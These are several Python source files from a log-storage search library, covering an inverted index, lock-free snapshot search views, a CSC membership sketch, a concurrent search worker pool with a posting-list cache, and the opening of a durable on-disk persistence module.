        """Dictionary scan: union postings of all terms containing ``sub``."""
        if self.terms is None:
            res: set[int] = set()
            for t, ps in self._building.items():
                if sub in t:
                    res.update(ps)
            return sorted(res)
        res = set()
        for i, t in enumerate(self.terms):
            if sub in t:
                res.update(self._postings_at(i).tolist())
        return sorted(res)

    def to_bytes(self) -> bytes:
        """Serialize the sealed index (lexicon + posting blob + offsets)."""
        assert self.terms is not None, "finish() before to_bytes()"
        return b"".join(
            [
                _BLOB_HEADER.pack(
                    _BLOB_MAGIC, len(self.terms), len(self.term_blob), len(self.post_blob)
                ),
                self.term_blob,
                self.post_blob,
                np.ascontiguousarray(self.post_offsets, dtype=np.int64).tobytes(),
                np.ascontiguousarray(self.post_counts, dtype=np.int32).tobytes(),
            ]
        )

    @classmethod
    def from_bytes(cls, data: bytes) -> "InvertedIndex":
        magic, n_terms, term_len, post_len = _BLOB_HEADER.unpack_from(data, 0)
        if magic != _BLOB_MAGIC:
            raise ValueError("bad magic — not an inverted-index blob")
        idx = cls()
        off = _BLOB_HEADER.size
        idx.term_blob = bytes(data[off : off + term_len])
        off += term_len
        idx.post_blob = bytes(data[off : off + post_len])
        off += post_len
        idx.post_offsets = np.frombuffer(data, dtype=np.int64, count=n_terms + 1, offset=off).copy()
        off += (n_terms + 1) * 8
        idx.post_counts = np.frombuffer(data, dtype=np.int32, count=n_terms, offset=off).copy()
        idx.terms = idx.term_blob.decode("utf-8").split("\x00") if n_terms else []
        idx._building = {}
        return idx

    def nbytes(self) -> int:
        if self.terms is None:
            return sum(len(t) + 8 * len(p) for t, p in self._building.items())
        # lexicon (full terms + 4B offsets each) + postings blob + offsets
        return (
            len(self.term_blob)
            + 4 * len(self.terms)
            + len(self.post_blob)
            + self.post_offsets.nbytes // 2  # u32-equivalent offsets
        )

    @property
    def n_terms(self) -> int:
        return len(self.terms) if self.terms is not None else len(self._building)
