"""Snapshot-isolated search views + the shared Query→Plan→Result pipeline.

The concurrency model (docs/concurrency.md) in one paragraph: **writers lock,
readers don't.**  Every mutating entry point of a :class:`LogStore` (ingest,
rotation, finish, flush, compaction) runs under the store's writer lock;
``LogStore.snapshot()`` takes that same lock for microseconds to capture an
immutable point-in-time view — the sealed-batch inventory, a frozen copy of
the unsealed writer tail, and a planner over *immutable-only* index state —
and searches then run against the snapshot with no locks at all, while ingest
keeps appending.

What a snapshot can plan with depends on the store: sealed segment sketches
(``ImmutableSketch`` readers, including mmap'd ones) are immutable and safe
for concurrent probing, so a :class:`~repro.logstore.segments.ShardedCoprStore`
snapshot keeps full index acceleration for everything already rotated.  Index
state that is still mutating (active segments, a pre-``finish`` monolithic
sketch/bit-array/lexicon) is never consulted; the batch ids it covers are
instead *always* candidates (``scan_ids``), and the exact post-filter keeps
results correct.  That trade is the point: the candidate phase is only ever
an optimization, so the snapshot may lose precision on the mutable tail but
can never lose a line.

:func:`execute_search` is the single implementation of the Query→Plan→Result
pipeline; ``LogStore.search_many`` (live, single-threaded, full precision)
and ``StoreSnapshot.search_many`` (lock-free, concurrent) both call it with
themselves as the view.  A view provides ``plan(atoms)``,
``known_batch_ids()``, ``batch_sources()`` and ``_filter_batches(ids, pred)``.
"""

from __future__ import annotations

import time
from typing import Any, Iterable, Iterator

import numpy as np

from ..core.bitset import bits_to_ids, empty_bits, frozen, ids_to_bits
from ..core.querylang import (
    AtomKey,
    CandidateSet,
    Query,
    SearchResult,
    as_query,
    atoms,
    candidate_bits,
    candidate_sets,
    line_matcher,
    merged_atoms,
    needs_sources,
    needs_universe,
)
from . import executor as _executor
from .batch import SealedBatch
from .executor import chunk_evenly, fanout_width, map_in_order, search_workers
from .linefilter import CompiledPredicate, SlabUnion, filter_sealed_vectorized

#: parsed-columns cache entries per view before a wholesale clear.  This is a
#: runaway backstop, not a working-set tuner: each entry holds one sealed
#: batch's decoded variable columns plus its render/probe memos (order of the
#: decompressed payload, a few KB), so the cap bounds the cache at tens of MB
#: while staying far above any realistic sealed-batch count — a cap *below*
#: the store's batch count makes every call clear and re-parse the whole
#: working set, which costs far more than the memory it saves.
_SEALED_COLS_CAP = 16384


def execute_search(view: Any, queries: list[Query | str]) -> list[SearchResult]:
    """Evaluate a batch of boolean queries against one view: one plan pass,
    exact results (see ``LogStore.search_many`` for the contract).

    All queries' Term/Contains leaves are deduplicated and planned in a
    single planning call; each query then combines its atoms' candidate sets
    through the boolean algebra and post-filters candidate batches with the
    exact line predicate.  Views exposing ``plan_bits`` (sketch stores and
    their snapshots) keep candidates packed end to end — the And/Or/Not
    algebra runs as uint64 word ops via :func:`candidate_bits` — while other
    views plan through the id-list ``plan()`` and the frozenset algebra; the
    two paths are result-identical.  Verification compiles each query once
    (:class:`~repro.logstore.linefilter.CompiledPredicate`) so sealed batches
    evaluate as byte slabs, with one shared decompressed-payload cache across
    the whole batch of queries (per call, never across calls — every sketch
    false positive still costs a real decompression per search).

    The one planning pass is *amortized* across the batch: each result's
    ``plan_s`` is its 1/n share (summing over the batch recovers the pass
    once), with the full pass in ``batch_plan_s``.
    """
    t0 = time.perf_counter()
    asts = [as_query(q) for q in queries]
    keys = merged_atoms(asts)
    # atoms the planner cannot bound degrade to a full scan — surface that on
    # every result whose AST references one (satellite: fallback_scan)
    unbounded = view.unbounded_atoms(keys)
    # the universe (NOT complement) and the source map are only built
    # when some AST actually reads them — pure Term/Contains workloads
    # (the serve hot path) skip both O(n_batches) constructions
    need_universe = any(needs_universe(a) for a in asts)
    need_sources = any(needs_sources(a) for a in asts)

    bit_plan = None
    plan_bits_fn = getattr(view, "plan_bits", None)
    if plan_bits_fn is not None:
        bit_plan = plan_bits_fn(keys)

    if bit_plan is not None:
        nbits, per_atom = bit_plan
        known_mask = None
        if need_universe or any(b is None for b in per_atom):
            known_mask = view.known_bits(nbits)[1]
        # an unbounded atom (None) is a candidate everywhere it could matter
        atom_masks = {
            key: (known_mask if b is None else b) for key, b in zip(keys, per_atom)
        }
        universe_mask = known_mask if known_mask is not None else empty_bits(nbits)
        source_masks: dict[str, np.ndarray] = {}
        if need_sources:
            by_source_ids: dict[str, list[int]] = {}
            for bid, group in view.batch_sources().items():
                by_source_ids.setdefault(group, []).append(bid)
            source_masks = {
                g: frozen(ids_to_bits(ids, nbits)) for g, ids in by_source_ids.items()
            }
        no_source = empty_bits(nbits)

        def source_bits(name: str) -> np.ndarray:
            return source_masks.get(name, no_source)

        def candidates(ast: Query) -> list[int]:
            maybe, _ = candidate_bits(ast, atom_masks, universe_mask, source_bits)
            return bits_to_ids(maybe).tolist()

    else:
        atom_sets = {key: frozenset(ids) for key, ids in zip(keys, view.plan(keys))}
        universe = frozenset(view.known_batch_ids()) if need_universe else frozenset()
        by_source: dict[str, set[int]] = {}
        if need_sources:
            for bid, group in view.batch_sources().items():
                by_source.setdefault(group, set()).add(bid)

        def source_set(name: str) -> frozenset[int]:
            return frozenset(by_source.get(name, ()))

        def candidates(ast: Query) -> list[int]:
            cand, _ = candidate_sets(ast, atom_sets, universe, source_set)
            return sorted(cand)

    plan_total = time.perf_counter() - t0
    plan_share = plan_total / max(1, len(asts))
    # combine every query's candidates first: their union defines the
    # call-shared slabs (SlabUnion), so verification work that batched
    # queries have in common — decompression, slab joins, lowercasing,
    # line indexing — happens once per call instead of once per query
    cand_secs: list[float] = []
    cand_lists: list[list[int]] = []
    for ast in asts:
        t1 = time.perf_counter()
        cand_lists.append(candidates(ast))
        cand_secs.append(time.perf_counter() - t1)
    slab_union = SlabUnion(sorted(set().union(*cand_lists)) if cand_lists else [])
    # decompressed payloads and template-dictionary verdicts shared across
    # THIS batch of queries only (never across calls — every sketch false
    # positive still costs its reconstruction per search).  Parsed variable
    # *columns* are different: sealed batches are immutable, the parsed view
    # is compact, and re-parsing it per call is pure overhead — they persist
    # on the view under a hard entry cap (cleared wholesale when exceeded,
    # so memory stays bounded even under reconstruct-everything workloads).
    shared_payloads: dict[int, bytes] = {}
    shared_templates: dict = {}
    cols_cache = getattr(view, "_sealed_cols_cache", None)
    if cols_cache is None:
        try:
            cols_cache = view._sealed_cols_cache = {}
        except AttributeError:  # a view with __slots__: fall back to per-call
            cols_cache = {}
    if len(cols_cache) > _SEALED_COLS_CAP:
        cols_cache.clear()
    results: list[SearchResult] = []
    for ast, cand, cand_s in zip(asts, cand_lists, cand_secs):
        t1 = time.perf_counter()
        pred = CompiledPredicate(
            ast, shared_payloads, shared_templates, cols_cache
        )
        pred.slab_union = slab_union
        lines, n_verified = view._filter_batches(cand, pred)
        verify_s = cand_s + time.perf_counter() - t1
        results.append(
            SearchResult(
                query=ast,
                lines=lines,
                n_candidate_batches=len(cand),
                n_verified_batches=n_verified,
                timings={
                    "plan_s": plan_share,
                    "batch_plan_s": plan_total,
                    "verify_s": verify_s,
                    "total_s": plan_share + verify_s,
                },
                fallback_scan=any(k in unbounded for k in atoms(ast)),
                n_lines_scanned=pred.n_lines_scanned,
                n_lines_exact=pred.n_lines_exact,
            )
        )
    return results


def filter_sealed_batches(
    batches: "dict[int, SealedBatch]", batch_ids: list[int], pred: CompiledPredicate
) -> tuple[list[str], int]:
    """Decompress + post-filter sealed batches, fanned over the shared pool.

    ``batches`` maps id → :class:`SealedBatch`; every id in ``batch_ids``
    must be present.  Chunks are contiguous and results concatenate in chunk
    order, so output is byte-identical to the serial loop.  Decompression
    releases the GIL, which is where the thread-level overlap comes from.

    A :class:`~repro.logstore.linefilter.CompiledPredicate` routes through
    the vectorized slab evaluator (same lines, same order); a bare per-line
    callable keeps the legacy loop.
    """
    vectorized = isinstance(pred, CompiledPredicate)

    def work(chunk: list[int], use_shared: bool = True) -> tuple[list[str], int]:
        if vectorized:
            # fan-out workers skip the call-shared slabs: SlabUnion builds
            # lazily and is not synchronized across threads
            return filter_sealed_vectorized(batches, chunk, pred, use_shared)
        out: list[str] = []
        for bid in chunk:
            b = batches[bid]
            for ln in b.lines():
                if pred(ln, b.group):
                    out.append(ln)
        return out, len(chunk)

    # fan out only when the GIL-released part (decompression) is substantial:
    # below ~1 MB of compressed payload, chunk submission + GIL switching
    # costs more than the overlap buys (measured; see docs/concurrency.md).
    # Chunks are coarse — one per core at most — so each task amortizes its
    # submission cost over many decompressions.
    w = fanout_width()
    if (
        search_workers() < 2
        or len(batch_ids) < 4 * w
        or sum(len(batches[bid].payload) for bid in batch_ids)
        < _executor.PARALLEL_FILTER_MIN_BYTES
    ):
        return work(batch_ids) if batch_ids else ([], 0)
    parts = map_in_order(
        lambda chunk: work(chunk, False), chunk_evenly(batch_ids, w)
    )
    lines: list[str] = []
    n_scanned = 0
    for part_lines, part_n in parts:
        lines.extend(part_lines)
        n_scanned += part_n
    return lines, n_scanned


class StoreSnapshot:
    """Immutable point-in-time view of a :class:`LogStore`, searchable
    lock-free while the store keeps ingesting.

    Captured under the store's writer lock (see ``LogStore.snapshot``):

    * ``batches`` — every sealed batch at capture time (published and
      writer-held); :class:`SealedBatch` objects are immutable.
    * ``tail`` — frozen copies of the still-open group buffers.
    * ``planner`` — a callable over immutable-only index state, or ``None``
      when the store has no sealed index yet (every query then scans).
    * ``scan_ids`` — batch ids whose index entries live (possibly partly) in
      mutable structures; they are unconditionally candidates for every atom
      so nothing indexed-after-capture can be missed.

    The snapshot implements the same view protocol as ``LogStore`` and
    shares :func:`execute_search`, so counters/timings/``fallback_scan``
    behave identically.
    """

    def __init__(
        self,
        *,
        store_name: str,
        finished: bool,
        batches: dict[int, SealedBatch],
        tail: list[tuple[int, str, tuple[str, ...]]],
        planner: Any,
        scan_ids: frozenset[int],
        unbounded_fn: Any = None,
    ) -> None:
        self.store_name = store_name
        self.finished = finished
        # store-kind-specific fallback_scan semantics (a stateless function of
        # the atom keys — safe to share with the live store)
        self._unbounded_fn = unbounded_fn
        self.batches = batches
        self.tail = {bid: (group, lines) for bid, group, lines in tail}
        self._planner = planner
        self._known = frozenset(batches) | frozenset(self.tail)
        self._scan_ids = frozenset(scan_ids) & self._known
        self._sources = {bid: b.group for bid, b in batches.items()}
        self._sources.update({bid: g for bid, (g, _) in self.tail.items()})
        # width-keyed packed-mask caches (benign data race: recomputation is
        # idempotent over immutable state, so lock-free is fine)
        self._known_bits_cache: tuple[int, "np.ndarray"] | None = None
        self._scan_bits_cache: tuple[int, "np.ndarray"] | None = None

    # -- view protocol (shared with LogStore) ----------------------------------

    def known_batch_ids(self) -> frozenset[int]:
        return self._known

    def batch_sources(self) -> dict[int, str]:
        return self._sources

    def unbounded_atoms(self, atom_keys: list[AtomKey]) -> set[AtomKey]:
        from .tokenizer import planner_tokens

        if self._unbounded_fn is not None:
            return self._unbounded_fn(atom_keys)
        return {key for key in atom_keys if not planner_tokens(*key)}

    def plan(self, atom_keys: list[AtomKey]) -> list[CandidateSet]:
        """Candidate ids per atom from immutable index state only.

        Mutable-tail coverage (``scan_ids``) joins every atom's candidates;
        a ``None`` per-atom planner result (no guaranteed tokens) or a
        ``None`` planner (no sealed index at all) means scan everything.
        """
        everything = sorted(self._known)
        if self._planner is None:
            return [list(everything) for _ in atom_keys]
        out: list[CandidateSet] = []
        for ids in self._planner(atom_keys):
            if ids is None:
                out.append(list(everything))
            else:
                out.append(sorted(self._known & (frozenset(ids) | self._scan_ids)))
        return out

    def known_bits(self, nbits: int) -> tuple[int, "np.ndarray"]:
        """Packed mask of every batch id visible in this snapshot."""
        cached = self._known_bits_cache
        if cached is not None and cached[0] == nbits:
            return cached
        out = (nbits, frozen(ids_to_bits(self._known, nbits)))
        self._known_bits_cache = out
        return out

    def _scan_bits(self, nbits: int) -> "np.ndarray":
        cached = self._scan_bits_cache
        if cached is not None and cached[0] == nbits:
            return cached[1]
        bits = frozen(ids_to_bits(self._scan_ids, nbits))
        self._scan_bits_cache = (nbits, bits)
        return bits

    def plan_bits(
        self, atom_keys: list[AtomKey]
    ) -> "tuple[int, list[np.ndarray | None]] | None":
        """Packed-bitset twin of :meth:`plan`: ``(nbits, [mask | None])`` or
        ``None`` when the captured planner has no bitset surface.

        Mirrors :meth:`plan` exactly — mutable-tail coverage (``scan_ids``)
        ORs into every bounded atom, and the result is clamped to the ids
        visible in this snapshot; ``None`` per-atom means scan everything.
        """
        planner = self._planner
        bits_fn = getattr(planner, "bits", None)
        if bits_fn is None:
            return None
        per_atom = bits_fn(atom_keys)
        if per_atom is None:
            return None
        nbits = planner.nbits
        _, known_mask = self.known_bits(nbits)
        scan_bits = self._scan_bits(nbits)
        return nbits, [
            None if b is None else (b | scan_bits) & known_mask for b in per_atom
        ]

    def _filter_batches(
        self, batch_ids: Iterable[int], pred: CompiledPredicate
    ) -> tuple[list[str], int]:
        ids = list(batch_ids)
        sealed = [bid for bid in ids if bid in self.batches]
        lines, n_scanned = filter_sealed_batches(self.batches, sealed, pred)
        for bid in ids:
            got = self.tail.get(bid)
            if got is None:
                continue
            group, tail_lines = got
            n_scanned += 1
            for ln in tail_lines:
                if pred(ln, group):
                    lines.append(ln)
        return lines, n_scanned

    # -- search ------------------------------------------------------------------

    def search(self, query: Query | str) -> SearchResult:
        return self.search_many([query])[0]

    def search_many(self, queries: list[Query | str]) -> list[SearchResult]:
        return execute_search(self, queries)

    def post_filter(self, batch_ids: Iterable[int], query: Query | str) -> list[str]:
        return self._filter_batches(batch_ids, line_matcher(as_query(query)))[0]

    # -- introspection (stress tests / oracles) -----------------------------------

    def iter_lines(self) -> Iterator[tuple[str, str]]:
        """Every ``(line, source)`` visible in this snapshot, in batch-id
        order — the brute-force oracle the stress tests compare against."""
        for bid in sorted(self._known):
            b = self.batches.get(bid)
            if b is not None:
                for ln in b.lines():
                    yield ln, b.group
            else:
                group, lines = self.tail[bid]
                for ln in lines:
                    yield ln, group

    @property
    def n_lines(self) -> int:
        return sum(b.n_lines for b in self.batches.values()) + sum(
            len(lines) for _, lines in self.tail.values()
        )

    @property
    def n_batches(self) -> int:
        return len(self._known)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"StoreSnapshot({self.store_name!r}, batches={len(self.batches)}, "
            f"tail={len(self.tail)}, scan_ids={len(self._scan_ids)})"
        )
