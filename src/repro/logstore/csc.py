"""Circular-Shift-and-Coalesce (CSC) membership sketch — Li et al., SIGMOD'21.

The paper's sketch baseline (§2.2, §5): one bit vector of ``m`` bits (power of
two so the modulo is a mask, §5.1.3), ``k`` hash functions producing anchor
positions, and a partition function ``g`` folding set ids into ``p``
partitions.  Membership of token *t* in set *S* sets bit
``(h_i(t) + g(S)) mod m`` for every *i*.  A query intersects the ``p``
partition bits at all ``k`` anchors and maps surviving partitions back to the
union of their sets.  Configured as in the paper: 1 repetition, 4 hashes.
"""

from __future__ import annotations

import numpy as np

from ..core.hashing import lowbias32

_HASH_SEEDS = np.asarray([0xA341316C, 0xC8013EA4, 0xAD90777D, 0x7E95761E, 0x131AF96B, 0x9B5F4C6A], dtype=np.uint32)


class CscSketch:
    def __init__(self, *, m_bits: int, n_hashes: int = 4, n_partitions: int = 64, n_sets: int) -> None:
        assert m_bits & (m_bits - 1) == 0, "m must be a power of two"
        assert n_hashes <= len(_HASH_SEEDS)
        self.m = m_bits
        self.k = n_hashes
        self.p = n_partitions
        self.n_sets = n_sets
        self.words = np.zeros(m_bits // 64, dtype=np.uint64)

    def _anchors(self, fps: np.ndarray) -> np.ndarray:
        """[k, n] anchor positions for uint32 fingerprints."""
        fps = np.asarray(fps, dtype=np.uint32)
        return np.stack(
            [lowbias32(fps ^ _HASH_SEEDS[i]) & np.uint32(self.m - 1) for i in range(self.k)]
        )

    def _g(self, set_id: int) -> int:
        return set_id % self.p

    def add_many(self, fps: np.ndarray, set_id: int) -> None:
        pos = (self._anchors(fps).astype(np.int64) + self._g(set_id)) & (self.m - 1)
        pos = pos.ravel()
        np.bitwise_or.at(
            self.words, pos >> 6, np.uint64(1) << (pos.astype(np.uint64) & np.uint64(63))
        )

    def add_many_sets(self, fps: np.ndarray, set_ids: np.ndarray) -> None:
        """Batched :meth:`add_many`: one bit-set pass for per-pair ``(fp,
        set_id)`` arrays.  Bit-setting is commutative and idempotent, so the
        result is identical to looping ``add_many`` per set."""
        fps = np.asarray(fps, dtype=np.uint32)
        if fps.size == 0:
            return
        g = np.asarray(set_ids, dtype=np.int64) % self.p
        pos = (self._anchors(fps).astype(np.int64) + g[None, :]) & (self.m - 1)
        pos = pos.ravel()
        np.bitwise_or.at(
            self.words, pos >> 6, np.uint64(1) << (pos.astype(np.uint64) & np.uint64(63))
        )

    def query(self, fp: int) -> np.ndarray:
        """Candidate set ids for one fingerprint (union of alive partitions)."""
        anchors = self._anchors(np.asarray([fp], dtype=np.uint32))[:, 0].astype(np.int64)
        offs = np.arange(self.p, dtype=np.int64)
        pos = (anchors[:, None] + offs[None, :]) & (self.m - 1)  # [k, p]
        bits = (self.words[pos >> 6] >> (pos.astype(np.uint64) & np.uint64(63))) & np.uint64(1)
        alive = bits.all(axis=0)  # AND over the k anchors
        parts = np.nonzero(alive)[0]
        if parts.size == 0:
            return np.zeros(0, dtype=np.int64)
        sets = np.arange(self.n_sets, dtype=np.int64)
        return sets[np.isin(sets % self.p, parts)]

    def query_partitions(self, fp: int) -> np.ndarray:
        anchors = self._anchors(np.asarray([fp], dtype=np.uint32))[:, 0].astype(np.int64)
        offs = np.arange(self.p, dtype=np.int64)
        pos = (anchors[:, None] + offs[None, :]) & (self.m - 1)
        bits = (self.words[pos >> 6] >> (pos.astype(np.uint64) & np.uint64(63))) & np.uint64(1)
        return np.nonzero(bits.all(axis=0))[0]

    def nbytes(self) -> int:
        return self.words.nbytes

    def fill_ratio(self) -> float:
        return float(np.bitwise_count(self.words).sum()) / self.m
