"""Shared search worker pool + posting-list cache (docs/concurrency.md).

Three building blocks for the concurrent search runtime:

* a process-wide **thread pool** (``configure_search_pool`` /
  ``get_search_pool``) that the query pipeline fans work over: per-segment
  sketch probes in ``plan()`` and per-batch decompress+post-filter chunks in
  ``_filter_batches()``.  The pool is off by default (``workers=0`` → fully
  serial, byte-identical to the pre-concurrency code path); size it with
  ``configure_search_pool(n)`` or the ``REPRO_SEARCH_WORKERS`` env var.
  Decompression and large vectorized probes release the GIL, so threads
  overlap the heavy parts of a query while Python-level bookkeeping stays
  serialized.

* a thread-safe **LRU cache for decoded posting lists**
  (:class:`PostingListCache`), keyed ``(segment uid, list rank)``.  Sealed
  segments are immutable, so a decoded list stays valid for the segment's
  whole lifetime and survives *across* queries — repeated tokens (the serve
  workload is heavy-tailed) skip the BIC decode entirely.  Compaction swaps
  in new ``Segment`` objects with fresh uids; stale entries simply age out.

* a **process pool** (:class:`ProcessSearchPool`) that fans *whole query
  batches* across worker processes, each of which mmap-opens the same
  finished store directory (the PR-3 durable layout makes that open
  zero-parse and milliseconds-cheap, and the page cache is shared).  This is
  the path that scales past the GIL on multi-core hosts; it requires a
  *finished*, persisted store.

Deterministic ordering everywhere: fan-out preserves input order
(``Executor.map`` and contiguous chunking), so parallel results are
element-for-element identical to serial execution.
"""

from __future__ import annotations

import os
from collections import OrderedDict
from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
from pathlib import Path
from typing import Any, Callable

from .locks import make_lock

_lock = make_lock("executor.pool_config")
_pool: ThreadPoolExecutor | None = None
_workers: int = int(os.environ.get("REPRO_SEARCH_WORKERS", "0") or 0)

def _env_int(name: str, default: int) -> int:
    raw = os.environ.get(name, "").strip()
    if not raw:
        return default
    try:
        return int(raw)
    except ValueError:
        raise ValueError(f"{name}={raw!r} is not an integer") from None


#: measured break-even points below which fan-out costs more than it buys
#: (chunk submission + GIL switching vs the GIL-released fraction of the
#: work).  Module attributes so tests/tuning can patch them; deployments tune
#: via the env vars without code changes.
#:
#: Re-measured against the vectorized hot path (PR 6): both stages now spend
#: most of their time in GIL-released numpy/zlib calls (byte-slab occurrence
#: scans, whole-batch sketch probes) instead of Python loops, so the
#: parallelizable fraction is large even on small inputs and the break-evens
#: moved DOWN — the old values (1 MiB / 1024 fps), calibrated against the
#: Python loops' fixed costs, forced serial execution well past the point
#: where fan-out wins.
PARALLEL_FILTER_MIN_BYTES = _env_int(
    "REPRO_PARALLEL_FILTER_MIN_BYTES", 256 << 10
)  # compressed payload per _filter_batches call
PARALLEL_PROBE_MIN_FPS = _env_int(
    "REPRO_PARALLEL_PROBE_MIN_FPS", 256
)  # merged fingerprints per plan_token_sets call
PARALLEL_SEAL_MIN_SEGMENTS = _env_int(
    "REPRO_PARALLEL_SEAL_MIN_SEGMENTS", 2
)  # rotated segments per batched-ingest seal fan-out.  Measured: sealing is
#    ~95% GIL-released numpy (sort + MPHF + bit-pack), so with ≥2 cores two
#    segments already overlap and the fan-out pays for itself; on a SINGLE
#    core pooled sealing consistently loses ~10% at every count (thread
#    switching buys nothing), which is why callers must also gate on
#    ``fanout_width() >= 2`` — the pool being configured is not evidence
#    that a second core exists.


def configure_search_pool(workers: int) -> None:
    """Set the shared pool size; ``0``/``1`` disables fan-out (serial)."""
    global _pool, _workers
    with _lock:
        workers = max(0, int(workers))
        if workers == _workers:
            return
        old, _pool, _workers = _pool, None, workers
    if old is not None:
        old.shutdown(wait=False)


def search_workers() -> int:
    """The configured pool size (0 → serial)."""
    return _workers


def fanout_width() -> int:
    """Chunk count for intra-query fan-out: the pool size capped at physical
    cores — more chunks than cores only adds GIL switching overhead."""
    return max(1, min(_workers, os.cpu_count() or 1))


def get_search_pool() -> ThreadPoolExecutor | None:
    """The shared thread pool, created lazily; ``None`` when serial."""
    global _pool
    if _workers < 2:
        return None
    if _pool is None:
        with _lock:
            if _pool is None and _workers >= 2:
                _pool = ThreadPoolExecutor(
                    max_workers=_workers, thread_name_prefix="repro-search"
                )
    return _pool


def map_in_order(fn: Callable[[Any], Any], items: list) -> list:
    """``[fn(x) for x in items]`` through the pool, preserving order.

    Falls back to serial if the pool is reconfigured (shut down) while this
    call holds it — fan-out is an optimization, never a correctness
    dependency, so a concurrent ``configure_search_pool`` must not be able
    to fail an in-flight query.
    """
    pool = get_search_pool()
    if pool is None or len(items) < 2:
        return [fn(x) for x in items]
    try:
        return list(pool.map(fn, items))
    except RuntimeError:  # pool shut down underneath us (reconfigure race)
        return [fn(x) for x in items]


def chunk_evenly(seq: list, n: int) -> list[list]:
    """Split ``seq`` into ≤``n`` contiguous, near-equal chunks (order kept)."""
    n = max(1, min(n, len(seq)))
    k, m = divmod(len(seq), n)
    out, start = [], 0
    for i in range(n):
        size = k + (1 if i < m else 0)
        out.append(seq[start : start + size])
        start += size
    return out


class PostingListCache:
    """Thread-safe LRU of decoded posting lists, keyed ``(segment uid, rank)``.

    Values are whatever ``compute`` returns and MUST be immutable — the hot
    path stores read-only packed-uint64 bitsets (``core.bitset.frozen``) so
    concurrent readers can AND/OR them without copying; legacy callers store
    tuples.  ``get`` computes outside the lock — two threads may race to
    decode the same list once, but both decodes are identical and the loser's
    work is merely redundant, never wrong.
    """

    def __init__(self, max_lists: int = 4096) -> None:
        self.max_lists = max_lists
        self._lock = make_lock("PostingListCache")
        self._lists: OrderedDict[tuple[int, int], object] = OrderedDict()
        self.hits = 0
        self.misses = 0
        self.evictions = 0

    def get(self, key: tuple[int, int], compute: Callable[[], Any]) -> Any:
        with self._lock:
            got = self._lists.get(key)
            if got is not None:
                self._lists.move_to_end(key)
                self.hits += 1
                return got
        val = compute()
        with self._lock:
            self.misses += 1
            self._lists[key] = val
            while len(self._lists) > self.max_lists:
                self._lists.popitem(last=False)
                self.evictions += 1
        return val

    def clear(self) -> None:
        with self._lock:
            self._lists.clear()

    def __len__(self) -> int:
        return len(self._lists)

    def stats(self) -> dict[str, int]:
        return {
            "lists": len(self._lists),
            "hits": self.hits,
            "misses": self.misses,
            "evictions": self.evictions,
        }


# -- process-level fan-out over a persisted, finished store ---------------------

_WORKER_STORE = None


def _process_worker_init(path: str) -> None:
    global _WORKER_STORE
    from .persist import open_store

    _WORKER_STORE = open_store(path)


def _process_worker_search(queries: list) -> list:
    return _WORKER_STORE.search_many(queries)


class ProcessSearchPool:
    """Whole-query fan-out across worker processes over one store directory.

    Every worker mmap-opens the *finished* store at ``path`` in its
    initializer (zero-parse; the OS page cache backs all workers with the
    same physical pages), then serves ``search_many`` chunks.  Results come
    back in submission order.  This sidesteps the GIL entirely — use it for
    read-only throughput serving; live-ingest concurrency goes through
    ``LogStore.snapshot()`` and the thread pool instead.
    """

    def __init__(self, path: "str | Path", workers: int, *, chunk: int = 8) -> None:
        import multiprocessing

        from .persist import StoreDir

        man = StoreDir(path).load_manifest()
        if man is None or not man.get("finished"):
            raise ValueError(
                f"{path} is not a finished store directory — ProcessSearchPool "
                "serves immutable stores only (use snapshots for live ingest)"
            )
        self.path = str(path)
        self.workers = workers
        self.chunk = chunk
        try:
            ctx = multiprocessing.get_context("fork")
        except ValueError:  # pragma: no cover - non-POSIX
            ctx = multiprocessing.get_context()
        self._ex = ProcessPoolExecutor(
            max_workers=workers,
            mp_context=ctx,
            initializer=_process_worker_init,
            initargs=(self.path,),
        )

    def search_many(self, queries: list) -> list:
        queries = list(queries)
        # at least one chunk per worker, at most `chunk` queries per chunk;
        # STRIPED assignment (i, i+n, i+2n, ...) so expensive queries that
        # cluster in the input spread across workers — results reassemble by
        # position, so output order still matches input order exactly
        n_chunks = max(
            1,
            min(len(queries), max(self.workers, (len(queries) + self.chunk - 1) // self.chunk)),
        )
        stripes = [queries[s::n_chunks] for s in range(n_chunks)]
        out: list = [None] * len(queries)
        for s, part in enumerate(self._ex.map(_process_worker_search, stripes)):
            for j, r in enumerate(part):
                out[s + j * n_chunks] = r
        return out

    def close(self) -> None:
        self._ex.shutdown(wait=True)

    def __enter__(self) -> "ProcessSearchPool":
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
