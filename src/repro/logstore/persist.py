"""Durable on-disk store directory (docs/persistence.md).

A persistent store is a directory of immutable artifacts plus a mutable tail:

* ``MANIFEST.json`` — versioned manifest, published atomically (tmp + fsync +
  ``os.replace``).  It is the single source of truth for which artifact files
  are live; everything not referenced is garbage and gets unlinked after the
  next manifest swap (this is what makes ``compact()`` atomic: write-new,
  fsync, manifest swap, unlink-old).
* ``wal.log`` — append-only write-ahead log of ``(line, source)`` records
  (length + CRC32 prefix per record).  The WAL is the *only* durability for
  unsealed in-memory state: reopening an unfinished store replays the WAL
  through the normal ingest path, which rebuilds batches, sketches and
  segment rotation exactly (ingest is deterministic in the line stream).  A
  crash loses at most the un-fsynced suffix; a torn tail (short or
  CRC-corrupt record) truncates replay at the last whole record.
* ``data/batches-*.dat`` — concatenated zstd batch payloads, one file per
  flush generation (append-free, so a crash can never corrupt earlier
  generations).  Payloads are served back as mmap slices — nothing is
  decompressed until a query post-filters the batch.
* ``segments/seg-*.sketch`` / ``index/*`` — sealed immutable sketches,
  read back via :meth:`ImmutableSketch.open_mmap`: opening examines only the
  fixed header (section offsets); posting lists and CSF words stay on disk
  until probed.

``StoreDir.bytes_read`` accounts every byte the open path actually examines
(manifest file, WAL records, sketch headers) so tests and benchmarks can
assert the zero-parse property: reopening a finished store reads a tiny,
size-independent fraction of the directory.
"""

from __future__ import annotations

import json
import os
import struct
import zlib
from pathlib import Path
from typing import Any, Iterator

import numpy as np

from ..core.immutable_sketch import _HEADER_BYTES, ImmutableSketch

FORMAT_VERSION = 2
#: manifests this code can open.  v1 lacks the payload-codec columns
#: (``tfile``/``toffset``/``tlength``) — decoded entries get raw-codec
#: defaults, so pre-refactor directories keep opening unchanged.
SUPPORTED_FORMAT_VERSIONS = (1, 2)
MANIFEST_NAME = "MANIFEST.json"
WAL_NAME = "wal.log"

#: bytes ``ImmutableSketch.from_buffer`` examines when opening an mmap'd
#: sketch — the fixed header holding section offsets; everything else is a
#: zero-copy ``np.frombuffer`` view that faults in lazily.
SKETCH_OPEN_BYTES = _HEADER_BYTES

